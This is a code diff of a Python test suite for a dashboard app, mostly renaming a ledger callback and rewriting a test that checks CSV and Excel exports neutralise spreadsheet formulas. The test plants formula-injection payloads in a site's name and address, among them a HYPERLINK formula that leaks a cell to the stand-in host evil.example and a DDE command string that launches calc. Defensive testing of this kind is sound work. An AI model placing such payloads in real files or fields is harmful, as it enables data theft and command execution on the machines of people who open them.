@@ -14,7 +14,7 @@ import json
 
 import pytest
 from sqlalchemy import inspect as sa_inspect
-from sqlalchemy import text
+from sqlalchemy import select, text
 
 from dashboard.store.db import engine_for, session_scope
 from tests.conftest import TEST_PASSWORDS
@@ -111,7 +111,7 @@ def write_calls(settings) -> dict[str, dict]:
                                          "sites-upload.filename": "sites.xlsx", "sites-refresh.data": 0},
         "insp-import-result.children": {"insp-import-upload.contents": _upload(template_bytes()),
                                         "insp-import-upload.filename": "paper.xlsx"},
-        "ledger-grid.rowTransaction": {"ledger-grid.cellValueChanged": [{
+        "ledger-updated.data": {"ledger-grid.cellValueChanged": [{
             "colId": "status_label", "value": "已完成", "data": {**item_row, "status_label": "推进中"}}]},
         "meeting-freeze-message.children": {"meeting-freeze-air.n_clicks": 1, "meeting-ref.data": meeting_ref},
         "adm-ts-recompute-message.children": {"adm-ts-recompute.n_clicks": 1},
@@ -136,7 +136,7 @@ WRITERS = ["admin-rules-targets-message.children", "admin-rules-plates-message.c
            "admin-rules-photos-message.children",
            "admin-rules-dust-message.children",
            "admin-checklist-load-message.children",
-           "sites-upload-result.children", "insp-import-result.children", "ledger-grid.rowTransaction",
+           "sites-upload-result.children", "insp-import-result.children", "ledger-updated.data",
            "meeting-freeze-message.children", "adm-ts-recompute-message.children", "adm-ts-message.children",
            "admin-display-created.children", "admin-display-revoke-message.children",
            "admin-rules-dusthealth-message.children", "admin-dust-added.children",
@@ -177,10 +177,10 @@ def test_a_stale_or_missing_version_is_refused_through_the_endpoint(demo):
     log_in(client, "editor", TEST_PASSWORDS["editor"])
     calls = write_calls(settings)
     before = table_hash(settings.database_url)
-    row = calls["ledger-grid.rowTransaction"]["ledger-grid.cellValueChanged"][0]
+    row = calls["ledger-updated.data"]["ledger-grid.cellValueChanged"][0]
     for version in (None, row["data"]["version"] - 1, "1"):
         event = {**row, "data": {**row["data"], "version": version}}
-        response = call(client, app, "ledger-grid.rowTransaction", {"ledger-grid.cellValueChanged": [event]})
+        response = call(client, app, "ledger-updated.data", {"ledger-grid.cellValueChanged": [event]})
         assert response.status_code == 200
         said = text_of(response)
         assert "未保存" in said or "没有保存" in said or "他人" in said, (version, said[:300])
@@ -216,21 +216,24 @@ def test_crafted_values_in_every_callback_never_give_a_500(demo, user):
 
 
 def test_the_sites_page_downloads_never_carry_a_live_formula(demo):
-    """The grid's rows come back from the browser, so a crafted name reaches the file: it must
-    arrive as text, not as a formula Excel would run."""
+    """A site's name and address are whatever someone typed or uploaded, so a crafted one reaches
+    the file: it must arrive as text, not as a formula Excel would run."""
     import io
 
     from openpyxl import load_workbook
 
-    app, _settings = demo
+    from dashboard.store.models import Site
+
+    app, settings = demo
+    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    with session_scope(settings.database_url) as session:
+        site = session.scalars(select(Site).order_by(Site.id).limit(1)).one()
+        site.name, site.address, code = attack, "+cmd|' /C calc'!A0", site.code
     client = app.server.test_client()
     log_in(client, "viewer", TEST_PASSWORDS["viewer"])
-    attack = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
-    rows = [{"code": "GD-0001", "name": attack, "township": "@SUM(1+1)", "rate": -0.5,
-             "address": "+cmd|' /C calc'!A0"}]
     for button, suffix in (("sites-export-csv", ".csv"), ("sites-export-xlsx", ".xlsx")):
         response = call(client, app, "sites-download.data",
-                        {f"{button}.n_clicks": 1, "sites-grid.virtualRowData": rows}, changed=[f"{button}.n_clicks"])
+                        {f"{button}.n_clicks": 1, "sites-search.value": code}, changed=[f"{button}.n_clicks"])
         sent = response.get_json()["response"]["sites-download"]["data"]
         assert sent["filename"].endswith(suffix) and sent["base64"]
         content = base64.b64decode(sent["content"])
